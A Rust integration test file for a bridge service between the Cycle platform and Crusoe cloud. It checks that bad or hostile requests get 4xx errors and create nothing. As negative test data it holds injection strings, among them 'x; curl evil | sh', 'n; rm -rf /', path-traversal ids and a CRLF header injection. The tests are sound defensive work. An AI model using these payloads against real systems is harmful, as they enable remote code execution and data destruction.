//! Bad input from outside: malformed JSON, missing fields, wrong types, unknown or incompatible
//! models and locations, hostile ids, oversized bodies. Each gets a 4xx in Cycle's error shape,
//! and Crusoe is asked to create nothing.

use crate::common;

use common::harness::{test_settings, Harness, CYCLE_SERVER};
use common::quick_sim_config;
use serde_json::{json, Value};

fn assert_cycle_error(status: u16, body: &Value, want: u16) {
    assert_eq!(status, want, "{body}");
    assert_eq!(body["data"], Value::Null, "{body}");
    let e = &body["error"];
    assert_eq!(e["status"], want, "{body}");
    assert!(
        e["code"].as_str().unwrap().starts_with(&format!("{want}.")),
        "{body}"
    );
    assert!(
        e["title"].is_string() && !e["detail"].as_str().unwrap().is_empty(),
        "{body}"
    );
}

fn mutating_calls(h: &Harness) -> u64 {
    h.sim
        .sim
        .calls()
        .iter()
        .filter(|(k, _)| !k.starts_with("GET"))
        .map(|(_, v)| v)
        .sum()
}

#[tokio::test]
async fn every_kind_of_bad_input_is_a_cycle_shaped_4xx_and_creates_nothing() {
    let h = Harness::start(quick_sim_config(), test_settings()).await;
    let config = h.configure("us-east1-a").await["configuration_latest"].clone();
    let before = mutating_calls(&h);
    let good = Harness::provision_request(CYCLE_SERVER, "c1a.4x", "us-east1-a", &config);
    let with = |pointer: &str, value: Value| {
        let mut r = good.clone();
        *r.pointer_mut(pointer).unwrap() = value;
        r
    };
    let provision = "/v1/infrastructure/server/provision";

    // Not JSON at all.
    let (status, body) = h
        .raw("POST", provision, Some(b"{\"auth\": ".to_vec()))
        .await;
    assert_cycle_error(status, &body, 400);

    let cases: Vec<(&str, Value, u16, &str)> = vec![
        ("missing payload", Value::Null, 422, "/request"),
        (
            "missing hostname",
            {
                let mut r = good.clone();
                r.as_object_mut().unwrap().remove("hostname");
                r
            },
            422,
            "/request",
        ),
        (
            "wrong type",
            with("/model_id", json!(42)),
            422,
            "/request/model_id",
        ),
        (
            "unknown model",
            with("/model_id", json!("z9.128x")),
            422,
            "/request/model_id",
        ),
        (
            "ARM model",
            with("/model_id", json!("gh200.1x")),
            422,
            "/request/model_id",
        ),
        (
            "tiny model",
            with("/model_id", json!("c1a.1x")),
            422,
            "/request/model_id",
        ),
        (
            "unknown location",
            with("/location_id", json!("mars-1a")),
            422,
            "/request/location_id",
        ),
        (
            "no network configuration",
            with("/location_configuration", json!({})),
            422,
            "/request/location_configuration",
        ),
        (
            "configuration of another location",
            with("/location_id", json!("us-southcentral1-a")),
            422,
            "/request/location_configuration",
        ),
        (
            "path in the cycle id",
            with("/cycle/server_id", json!("../x")),
            422,
            "/request/cycle/server_id",
        ),
        (
            "very long cycle id",
            with("/cycle/server_id", json!("a".repeat(5000))),
            422,
            "/request/cycle/server_id",
        ),
        (
            "control characters",
            with("/cycle/server_id", json!("ab\u{0}\r\ncd")),
            422,
            "/request/cycle/server_id",
        ),
        (
            "shell in the hostname",
            with("/hostname", json!("x; curl evil | sh")),
            422,
            "/request/hostname",
        ),
        (
            "storage that is not a number",
            with("/provision_options", json!({"storage_size": "lots"})),
            422,
            "/request/provision_options/storage_size",
        ),
        (
            "encrypted storage, which Crusoe cannot be asked for",
            with("/provision_options", json!({"encrypt_storage": true})),
            422,
            "/request/provision_options/encrypt_storage",
        ),
        (
            "a hypervisor this bridge does not offer",
            with(
                "/model_features",
                json!({"raid": null, "hypervisor": true, "extra": null}),
            ),
            422,
            "/request/model_features/hypervisor",
        ),
    ];
    for (what, request, want, pointer) in cases {
        let (status, body) = h.cycle(provision, request).await;
        assert_cycle_error(status, &body, want);
        let source = body["error"]["source"].as_str().unwrap_or_default();
        assert!(
            source.starts_with(pointer),
            "{what}: source {source:?}, want {pointer}: {body}"
        );
    }

    // Ids Cycle sends back, hostile.
    for bad in [
        "../../organizations",
        "cycle-../x",
        "cycle-a/b",
        "vm-123",
        &format!("cycle-{}", "9".repeat(300)),
        "cycle-a%2Fb",
        "cycle-x?y=1",
        "cycle-x#frag",
        "cycle-x\r\nHost: evil.example",
        "cycle-%2e%2e",
    ] {
        for path in [
            "/v1/infrastructure/server/provision-status",
            "/v1/infrastructure/server/restart",
            "/v1/infrastructure/server/decommission",
        ] {
            let (status, body) = h.cycle(path, Harness::server_ref(bad, "us-east1-a")).await;
            assert_cycle_error(status, &body, 422);
            assert_eq!(
                body["error"]["source"], "/request/server_id",
                "{path} {bad}"
            );
        }
    }
    let release = json!({"kind": "ipv4", "ip_id": "x", "ip_assignment_id": "lb-../../vms", "cidr": "1.2.3.4/32"});
    let (status, body) = h.cycle("/v1/infrastructure/ip/release", release).await;
    assert_cycle_error(status, &body, 422);
    let ipv6 = json!({"kind": "ipv6", "server_id": "cycle-abc", "location_id": "us-east1-a", "location_configuration": config,
                      "cycle": {"server_id": "s", "server_model_class": "c", "server_model_category": "c", "location_id": "l"}});
    let (status, body) = h.cycle("/v1/infrastructure/ip/allocate", ipv6).await;
    assert_cycle_error(status, &body, 422);
    assert!(
        Harness::detail(&body).contains("IPv4 addresses only"),
        "{body}"
    );

    // A hostile hub id in auth.
    let mut auth = h.auth.clone();
    auth["cycle"]["hub_id"] = json!("../../x");
    let (status, body) = h.cycle_as(&auth, provision, good.clone()).await;
    assert_cycle_error(status, &body, 422);

    // Bigger than the body limit.
    let huge = json!({"auth": h.auth, "request": {"hostname": "x".repeat(300 * 1024)}});
    let (status, body) = h
        .raw("POST", provision, Some(serde_json::to_vec(&huge).unwrap()))
        .await;
    assert_cycle_error(status, &body, 413);

    // Unknown paths and methods.
    let (status, body) = h
        .raw("POST", "/v1/infrastructure/server/explode", None)
        .await;
    assert_cycle_error(status, &body, 404);
    let (status, body) = h.raw("DELETE", provision, None).await;
    assert_cycle_error(status, &body, 405);

    assert_eq!(
        mutating_calls(&h),
        before,
        "Crusoe was asked to create or change nothing"
    );
    assert_eq!(h.billable(), (0, 0, 0));
}

#[tokio::test]
async fn missing_or_wrong_credentials_are_401_and_verify_says_false_not_an_error() {
    let h = Harness::start(quick_sim_config(), test_settings()).await;
    let (status, body) = h
        .cycle_as(
            &Value::Null,
            "/v1/infrastructure/provider/locations",
            Value::Null,
        )
        .await;
    assert_cycle_error(status, &body, 401);
    assert!(Harness::detail(&body).contains("/auth/api_key"), "{body}");

    let mut wrong = h.auth.clone();
    wrong["secret"] = json!("AAAAAAAAAAAAAAAAAAAAAA");
    let (status, body) = h
        .cycle_as(
            &wrong,
            "/v1/infrastructure/provider/server-models",
            Value::Null,
        )
        .await;
    assert_cycle_error(status, &body, 401);
    assert!(
        !body.to_string().contains("AAAAAAAAAAAAAAAAAAAAAA"),
        "the secret is never echoed"
    );
    assert_eq!(
        Harness::data(h.cycle_as(&wrong, "/v1/auth/verify", Value::Null).await),
        json!({"valid": false})
    );
    assert_eq!(
        Harness::data(
            h.cycle_as(&Value::Null, "/v1/auth/verify", Value::Null)
                .await
        ),
        json!({"valid": false})
    );
    let mut other_project = h.auth.clone();
    other_project["namespace"] = json!("0b0b0b0b-0000-4000-8000-000000000000");
    assert_eq!(
        Harness::data(
            h.cycle_as(&other_project, "/v1/auth/verify", Value::Null)
                .await
        ),
        json!({"valid": false})
    );
}

#[tokio::test]
async fn verify_is_an_error_not_false_when_crusoe_is_down() {
    let h = Harness::start(quick_sim_config(), test_settings()).await;
    h.sim
        .sim
        .set_faults(crusoe_sim::Faults {
            server_error_rate: 1.0,
            ..Default::default()
        })
        .unwrap();
    let body = serde_json::to_vec(&json!({"auth": h.auth, "request": null})).unwrap();
    let (status, answer) = h.raw("POST", "/v1/auth/verify", Some(body)).await;
    assert_cycle_error(status, &answer, 503);
    assert_eq!(answer["error"]["code"], "503.provider-unavailable");
}

#[tokio::test]
async fn crusoe_ids_cycle_sends_back_are_checked_before_any_crusoe_call_carries_them() {
    let h = Harness::start(quick_sim_config(), test_settings()).await;
    let config = h.configure("us-east1-a").await["configuration_latest"].clone();
    let before = mutating_calls(&h);
    let provision = "/v1/infrastructure/server/provision";
    let forged = |field: &str, value: Value| {
        let mut c = config.clone();
        c[field] = value;
        c
    };
    let request = |c: &Value| Harness::provision_request(CYCLE_SERVER, "c1a.4x", "us-east1-a", c);
    for (config, pointer) in [
        (
            forged("subnet_id", json!("../../organizations/projects")),
            "/request/location_configuration/subnet_id",
        ),
        (
            forged("vpc_network_id", json!("n; rm -rf /")),
            "/request/location_configuration/vpc_network_id",
        ),
        (
            forged("firewall_rule_ids", json!(["{x}"])),
            "/request/location_configuration/firewall_rule_ids/0",
        ),
        // Well formed, but no such subnet: refused before the data disk is made.
        (
            forged("subnet_id", json!("00000000-0000-0000-0000-000000000000")),
            "/request/location_configuration/subnet_id",
        ),
    ] {
        let (status, body) = h.cycle(provision, request(&config)).await;
        assert_cycle_error(status, &body, 422);
        assert_eq!(body["error"]["source"], pointer, "{body}");
    }
    let mut reserved = request(&config);
    reserved["provision_options"] = json!({"reservation_id": "not-a-reservation"});
    let (status, body) = h.cycle(provision, reserved).await;
    assert_cycle_error(status, &body, 422);
    assert_eq!(
        body["error"]["source"],
        "/request/provision_options/reservation_id"
    );

    let status_of = |extra: Value| {
        Harness::status_request(
            &format!("cycle-{CYCLE_SERVER}"),
            "us-east1-a",
            &config,
            &extra,
        )
    };
    let (status, body) = h
        .cycle(
            "/v1/infrastructure/server/provision-status",
            status_of(json!({"vm_operation_id": "../../operations"})),
        )
        .await;
    assert_cycle_error(status, &body, 422);
    assert_eq!(body["error"]["source"], "/request/extra/vm_operation_id");

    let mut current = config.clone();
    current["subnet_id"] = json!("x/../y");
    let (status, body) = h
        .cycle(
            "/v1/location/configure",
            json!({"location_id": "us-east1-a", "version": "1", "configuration_current": current, "cycle": {"location_id": "l"}}),
        )
        .await;
    assert_cycle_error(status, &body, 422);
    assert_eq!(
        body["error"]["source"],
        "/request/configuration_current/subnet_id"
    );

    let release = json!({"kind": "ipv4", "ip_id": "x", "ip_assignment_id": "lb-not-a-uuid", "cidr": "1.2.3.4/32"});
    let (status, body) = h.cycle("/v1/infrastructure/ip/release", release).await;
    assert_cycle_error(status, &body, 422);
    assert_eq!(body["error"]["source"], "/request/ip_assignment_id");

    assert_eq!(
        mutating_calls(&h),
        before,
        "Crusoe was asked to create or change nothing"
    );
    assert_eq!(h.billable(), (0, 0, 0));
}
